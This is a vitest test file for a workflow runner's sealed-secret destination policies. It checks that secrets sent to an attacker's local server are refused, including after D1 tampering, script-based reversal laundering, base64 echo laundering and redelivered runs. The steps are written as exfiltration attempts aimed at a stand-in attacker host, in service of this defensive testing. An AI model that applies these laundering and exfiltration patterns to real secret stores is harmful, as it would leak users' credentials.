import { env } from "cloudflare:workers";
import { runSteps, runs, secrets, workflows } from "@workflow-secrets/db";
import { findLeaks, makeCanary } from "@workflow-secrets/leak-oracle";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { deliverRun } from "../../test/worker/deliver";
import { dumpDatabase } from "../../test/worker/dump-database";
import { runView } from "../../test/worker/run-view";
import { db, putSecret, queueRun, seedUser, seedWorkflow, uid } from "../../test/worker/seed";
import { echoUrl, records, slackUrl, smtpPort } from "../../test/worker/servers";

// Two real servers on 127.0.0.1: the owner's service (echo) and the attacker's (the slack receiver).
const allowed = [echoUrl];
const attackerOrigin = slackUrl;
const canaries: string[] = [];
const logged: string[] = [];

beforeAll(() => {
  for (const method of ["log", "info", "warn", "error", "debug"] as const) {
    vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
      logged.push(args.map((a) => (typeof a === "string" ? a : JSON.stringify(a))).join(" "));
    });
  }
});

afterAll(async () => {
  vi.restoreAllMocks();
  // Leak sweep: the refusals, the tampered rows and the runs' history reveal no secret.
  const everything = [await dumpDatabase(), logged.join("\n")].join("\n");
  expect(findLeaks(everything, canaries)).toEqual([]);
});

async function restrictedSecret(user: string, name: string, scripts = false, destinations = allowed) {
  const value = makeCanary(name, "ascii");
  canaries.push(value);
  const row = await putSecret(user, name, value, "newest", { destinations, scripts });
  return { value, ...row };
}

/** Requests the attacker's server received whose path or body holds the marker. */
async function attackerReceived(marker: string) {
  return (await records()).requests.filter(
    (r) => r.server === "slack" && `${r.path} ${r.body}`.includes(marker),
  );
}

async function run(workflowId: string, user: string) {
  const runId = await queueRun(workflowId, user);
  await deliverRun(runId);
  return runView(runId);
}

const refusal = (step: string, field: string, secret: string, destination: string, via?: string) =>
  `step "${step}" (${field}): secret "${secret}"${via ? ` (carried by ${via})` : ""} may not be sent to ${destination}; it may go only to ${allowed.join(", ")}. Send it to one of those, or enter the secret's value again with this destination added`;

describe("sealed destinations: the runner sends a secret only where its owner allowed", () => {
  it("sends to an allowed destination, and refuses a URL rewritten in D1 before anything is sent", async () => {
    const user = await seedUser();
    await restrictedSecret(user, "api_key");
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "call",
      trigger: { type: "manual" },
      steps: [
        {
          id: "ok",
          type: "http",
          url: `${echoUrl}/echo/${marker}`,
          headers: { "x-key": "{{secrets.api_key}}" },
        },
      ],
    });
    expect((await run(wf.id, user)).status).toBe("succeeded");

    // A D1 writer (or a compromised API) points the step at its own server.
    const stolen = {
      name: "call",
      trigger: { type: "manual" },
      steps: [
        {
          id: "ok",
          type: "http",
          url: `${attackerOrigin}/collect/${marker}`,
          headers: { "x-key": "{{secrets.api_key}}" },
        },
      ],
    };
    await db.update(workflows).set({ definition: stolen }).where(eq(workflows.id, wf.id));
    const view = await run(wf.id, user);
    expect(view.status).toBe("failed");
    expect(view.steps[0]?.error).toBe(refusal("ok", "headers.x-key", "api_key", attackerOrigin));
    expect(view.steps[0]?.attempts).toBe(0);
    expect(view.error).toBe(view.steps[0]?.error);
    expect(await attackerReceived(marker)).toEqual([]);
  });

  it("refuses a secret in the body or query too, and names the field", async () => {
    const user = await seedUser();
    await restrictedSecret(user, "token");
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "body",
      trigger: { type: "manual" },
      steps: [
        {
          id: "post",
          type: "http",
          method: "POST",
          url: `${attackerOrigin}/collect/${marker}`,
          body: { type: "json", value: { stolen: "{{secrets.token}}" } },
        },
      ],
    });
    const view = await run(wf.id, user);
    expect(view.steps[0]?.error).toBe(refusal("post", "body.value.stolen", "token", attackerOrigin));
    expect(await attackerReceived(marker)).toEqual([]);
  });

  it("fails as tampered when the policy column is widened in D1, and sends nothing", async () => {
    const user = await seedUser();
    const { id } = await restrictedSecret(user, "widened");
    await db
      .update(secrets)
      .set({ policy: '{"destinations":["*"],"scripts":true}' })
      .where(eq(secrets.id, id));
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "widened",
      trigger: { type: "manual" },
      steps: [
        {
          id: "send",
          type: "http",
          url: `${attackerOrigin}/collect/${marker}`,
          headers: { a: "{{secrets.widened}}" },
        },
      ],
    });
    const view = await run(wf.id, user);
    expect(view.steps[0]?.error).toBe(
      'step "send" (headers.a): {{secrets.widened}} could not be opened (tampered); save the secret again',
    );
    expect(await attackerReceived(marker)).toEqual([]);
  });

  it("fails as tampered when the policy is dropped (NULL: legacy, unrestricted) in D1", async () => {
    const user = await seedUser();
    const { id } = await restrictedSecret(user, "downgraded");
    await db.update(secrets).set({ policy: null }).where(eq(secrets.id, id));
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "downgraded",
      trigger: { type: "manual" },
      steps: [
        {
          id: "send",
          type: "http",
          url: `${attackerOrigin}/collect/${marker}`,
          headers: { a: "{{secrets.downgraded}}" },
        },
      ],
    });
    expect((await run(wf.id, user)).steps[0]?.error).toContain("could not be opened (tampered)");
    expect(await attackerReceived(marker)).toEqual([]);
  });

  it("fails as tampered when a restricted envelope is copied onto an unrestricted secret's row", async () => {
    const user = await seedUser();
    const restricted = await restrictedSecret(user, "restricted");
    const open = await restrictedSecret(user, "open_one", true, ["*"]);
    const source = await db.select().from(secrets).where(eq(secrets.id, restricted.id)).get();
    await db
      .update(secrets)
      .set({ envelope: source?.envelope as string })
      .where(eq(secrets.id, open.id));
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "moved",
      trigger: { type: "manual" },
      steps: [
        {
          id: "send",
          type: "http",
          url: `${attackerOrigin}/collect/${marker}`,
          headers: { a: "{{secrets.open_one}}" },
        },
      ],
    });
    expect((await run(wf.id, user)).steps[0]?.error).toContain("could not be opened (tampered)");
    expect(await attackerReceived(marker)).toEqual([]);
  });

  it("refuses a script step reading a secret that does not allow scripts; the script never runs", async () => {
    const user = await seedUser();
    await restrictedSecret(user, "no_scripts");
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "script",
      trigger: { type: "manual" },
      steps: [{ id: "peek", type: "script", code: `console.log("${marker}"); return secrets.no_scripts;` }],
    });
    const view = await run(wf.id, user);
    expect(view.steps[0]?.error).toBe(
      'step "peek" (code): secret "no_scripts" may not be read by script steps. Remove it from the script, or enter the secret\'s value again with scripts allowed',
    );
    expect(view.steps[0]?.console ?? "").not.toContain(marker);
  });

  it("laundering through a reversing script: every later step must satisfy the secret's policy", async () => {
    const user = await seedUser();
    const { value } = await restrictedSecret(user, "laundered", true);
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "launder",
      trigger: { type: "manual" },
      steps: [
        { id: "rev", type: "script", code: "return secrets.laundered.split('').reverse().join('');" },
        { id: "fine", type: "http", url: `${echoUrl}/echo/${marker}` },
        { id: "exfil", type: "http", url: `${attackerOrigin}/collect/${marker}?v={{steps.rev}}` },
      ],
    });
    const view = await run(wf.id, user);
    expect(view.steps.map((s) => s.status)).toEqual(["succeeded", "succeeded", "failed"]);
    // The reversed value is beyond the masker: the run is bound by what the script read.
    expect(view.steps[2]?.error).toBe(
      refusal(
        "exfil",
        "url",
        "laundered",
        attackerOrigin,
        'script step "rev", which read it earlier in this run',
      ),
    );
    expect(await attackerReceived(marker)).toEqual([]);
    // Even a step that uses nothing from the script: the run is bound by what the script read.
    const quiet = await seedWorkflow(user, {
      name: "launder quietly",
      trigger: { type: "manual" },
      steps: [
        { id: "rev", type: "script", code: "return secrets.laundered.split('').reverse().join('');" },
        { id: "ping", type: "http", url: `${attackerOrigin}/collect/${marker}` },
      ],
    });
    const quietView = await run(quiet.id, user);
    expect(quietView.steps[1]?.error).toBe(
      refusal(
        "ping",
        "url",
        "laundered",
        attackerOrigin,
        'script step "rev", which read it earlier in this run',
      ),
    );
    expect(await attackerReceived(marker)).toEqual([]);
    canaries.push([...value].reverse().join(""));
  });

  it("a service that echoes the secret in base64: its output carries the secret to later steps", async () => {
    const user = await seedUser();
    await restrictedSecret(user, "echoed");
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "echo launder",
      trigger: { type: "manual" },
      steps: [
        {
          id: "reflect",
          type: "http",
          url: `${echoUrl}/reflect`,
          headers: { "x-reflect": "{{secrets.echoed}}" },
        },
        {
          id: "exfil",
          type: "http",
          method: "POST",
          url: `${attackerOrigin}/collect/${marker}`,
          body: { type: "text", value: "{{steps.reflect.body.encodings.base64}}" },
        },
      ],
    });
    const view = await run(wf.id, user);
    expect(view.steps[0]?.status).toBe("succeeded");
    expect(JSON.stringify(view.steps[0]?.output).slice(0, 3000)).toContain("[masked:echoed]");
    expect(view.steps[1]?.error).toBe(
      refusal("exfil", "body.value", "echoed", attackerOrigin, 'the output of step "reflect"'),
    );
    expect(await attackerReceived(marker)).toEqual([]);

    // Only the part a reference reads is judged: the status code carries nothing.
    const statusOnly = await seedWorkflow(user, {
      name: "status only",
      trigger: { type: "manual" },
      steps: [
        {
          id: "reflect",
          type: "http",
          url: `${echoUrl}/reflect`,
          headers: { "x-reflect": "{{secrets.echoed}}" },
        },
        {
          id: "report",
          type: "http",
          url: `${attackerOrigin}/services/${marker}?status={{steps.reflect.status}}`,
        },
      ],
    });
    const reported = await run(statusOnly.id, user);
    expect(reported.steps[1]?.error ?? "").not.toContain("may not be sent");
    expect(await attackerReceived(marker)).toHaveLength(1);
  });

  it("allows a path prefix, a URL-valued Slack secret at its own URL, and SMTP at its own server", async () => {
    const user = await seedUser();
    const hook = `${slackUrl}/services/T1/B2/${crypto.randomUUID().replaceAll("-", "")}`;
    canaries.push(hook);
    await putSecret(user, "slack_hook", hook, "newest", {
      destinations: [`${slackUrl}/services`],
      scripts: false,
    });
    const password = makeCanary("smtp", "ascii");
    canaries.push(password);
    await putSecret(user, "smtp_password", password, "newest", {
      destinations: [`smtp://127.0.0.1:${smtpPort}`],
      scripts: false,
    });
    const okWf = await seedWorkflow(user, {
      name: "allowed",
      trigger: { type: "manual" },
      steps: [
        { id: "notify", type: "slack", webhookUrl: "{{secrets.slack_hook}}", text: "hello" },
        {
          id: "mail",
          type: "email",
          smtp: {
            host: "127.0.0.1",
            port: smtpPort,
            security: "none",
            username: "u",
            password: "{{secrets.smtp_password}}",
          },
          from: "a@example.test",
          to: ["b@example.test"],
          subject: "s",
          text: "t",
        },
      ],
    });
    const ok = await run(okWf.id, user);
    expect(ok.steps.map((s) => s.status)).toEqual(["succeeded", "succeeded"]);

    const wrongPort = await seedWorkflow(user, {
      name: "wrong smtp",
      trigger: { type: "manual" },
      steps: [
        {
          id: "mail",
          type: "email",
          smtp: {
            host: "127.0.0.1",
            port: Number(env.ECHO_PORT),
            security: "none",
            username: "u",
            password: "{{secrets.smtp_password}}",
          },
          from: "a@example.test",
          to: ["b@example.test"],
          subject: "s",
          text: "t",
        },
      ],
    });
    const refused = await run(wrongPort.id, user);
    expect(refused.steps[0]?.error).toBe(
      `step "mail" (smtp.password): secret "smtp_password" may not be sent to smtp://127.0.0.1:${env.ECHO_PORT}; it may go only to smtp://127.0.0.1:${smtpPort}. Send it to one of those, or enter the secret's value again with this destination added`,
    );
  });

  it("a redelivered run resumes bound by what its finished steps read and carried", async () => {
    const user = await seedUser();
    await restrictedSecret(user, "resumed", true);
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "resume",
      trigger: { type: "manual" },
      steps: [
        { id: "read", type: "script", code: "return secrets.resumed.length" },
        { id: "exfil", type: "http", url: `${attackerOrigin}/collect/${marker}` },
      ],
    });
    // The state a consumer leaves when it dies after the script step: run running, "read" done.
    const runId = uid("run");
    const startedAt = new Date().toISOString();
    await db.insert(runs).values({
      id: runId,
      workflowId: wf.id,
      userId: user,
      triggerType: "manual",
      status: "running",
      startedAt,
    });
    await db.insert(runSteps).values({
      runId,
      stepId: "read",
      stepIndex: 0,
      type: "script",
      status: "succeeded",
      output: 40,
      startedAt,
      finishedAt: startedAt,
      durationMs: 1,
    });
    await deliverRun(runId, 2);
    const view = await runView(runId);
    expect(view.steps[1]?.error).toBe(
      refusal(
        "exfil",
        "url",
        "resumed",
        attackerOrigin,
        'script step "read", which read it earlier in this run',
      ),
    );
    expect(await attackerReceived(marker)).toEqual([]);
  });

  it("keeps legacy secrets (sealed before policies) unrestricted", async () => {
    const user = await seedUser();
    const value = makeCanary("legacy", "ascii");
    canaries.push(value);
    await putSecret(user, "legacy_key", value);
    const marker = crypto.randomUUID();
    const wf = await seedWorkflow(user, {
      name: "legacy",
      trigger: { type: "manual" },
      steps: [
        {
          id: "send",
          type: "http",
          url: `${slackUrl}/services/${marker}`,
          headers: { a: "{{secrets.legacy_key}}" },
        },
      ],
    });
    const view = await run(wf.id, user);
    // Sent (the receiver answers 404 to an unknown hook): no policy stands in the way.
    expect(view.steps[0]?.error ?? "").not.toContain("may not be sent");
    expect(await attackerReceived(marker)).toHaveLength(1);
  });
});
